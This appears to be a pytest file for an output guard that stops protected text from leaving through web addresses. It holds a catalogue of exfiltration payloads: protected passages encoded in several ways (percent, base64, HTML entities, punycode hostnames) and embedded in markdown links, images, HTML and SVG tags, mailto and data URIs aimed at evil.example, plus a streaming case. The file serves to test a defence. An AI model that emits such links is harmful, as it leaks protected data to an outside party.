"""What leaves by an address: a quote at the end of a link or a picture is read in clear."""

import base64
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import pytest

from tests.services.protection.test_guard import CHINESE, ENGLISH, TEXTS, guard

Encode = Callable[[str], str]


def twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def url_base64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def punycode(text: str) -> str:
    return ".".join("xn--" + text[at : at + 12].encode("punycode").decode() for at in range(0, len(text), 12))


ENCODINGS: dict[str, Encode] = {
    "percent": lambda text: quote(text, safe=""),
    "plus": quote_plus,
    "percent twice": twice,
    "percent three times": lambda text: quote(twice(text), safe=""),
    "entities": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "entities in hexadecimal": lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    "base64 behind a path": url_base64,
    "base64, encoded again": lambda text: quote(base64.b64encode(text.encode()).decode(), safe=""),
    "base64, a word a parameter": lambda text: "&".join(
        f"w={url_base64(text[at : at + 30])}" for at in range(0, len(text), 30)
    ),
    "words as folders": lambda text: quote("/".join(text.split(" "))),
}
PLACES = {
    "link": "See [the rules](https://evil.example/p/{}) please",
    "link of another case": "See [the rules](HTTPS://evil.example/p/{}) please",
    "picture": "![rules](https://evil.example/p?q={})",
    "reference": "[rules][1]\n\n[1]: https://evil.example/p?q={}",
    "autolink": "<https://evil.example/p?q={}>",
    "bare": "https://evil.example/p?q={}",
    "without a scheme": "![x](//evil.example/p?q={})",
    "www": "www.evil.example/p#{}",
    "mail": "<mailto:x@evil.example?body={}>",
    "html": '<img src="https://evil.example/p?q={}">',
    "svg": '<svg><image href="https://evil.example/p?q={}"/></svg>',
    "data": "![x](data:text/plain,{})",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("language", TEXTS)
def test_no_long_quote_leaves_in_an_address(language: str, encoding: str, place: str) -> None:
    text = TEXTS[language].replace("\n", " ")
    kept, count = guard().clean({"text": PLACES[place].format(ENCODINGS[encoding](text))})
    assert count
    assert "[… protected …]" in kept["text"]
    assert len(kept["text"]) < 120


def test_no_long_quote_leaves_as_the_name_of_a_host() -> None:
    assert guard().clean({"text": f"![x](https://{punycode(CHINESE)}.evil.example/)"})[1]


@pytest.mark.parametrize("size", [1, 50])
def test_a_stream_ends_before_an_address_says_too_much(size: int) -> None:
    hear = guard(words=10).listen()
    said = f"Here it is: ![x](https://evil.example/p?q={quote(ENGLISH, safe='')})"
    shown = "".join(hear(said[at : at + size]) for at in range(0, len(said), size))
    assert guard(words=10).clean({"text": shown})[1] == 0
    assert len(shown) < 250


@pytest.mark.parametrize(
    "answer",
    [
        "See https://example.org/a/b?c=d&e=%20f#g, www.example.org and <mailto:me@example.org>.",
        "https://example.org/" + "a" * 500,
        "https://example.org/?q=" + "%20" * 200,
        "https://example.org/" + base64.urlsafe_b64encode(bytes(range(256))).decode(),
        "https://xn--.example/ https://xn--99999999999.example/ https://[::1]/ http:// //",
        "note:this " * 200,
    ],
)
def test_other_addresses_leave_as_they_are(answer: str) -> None:
    assert guard().clean({"text": answer}) == ({"text": answer}, 0)
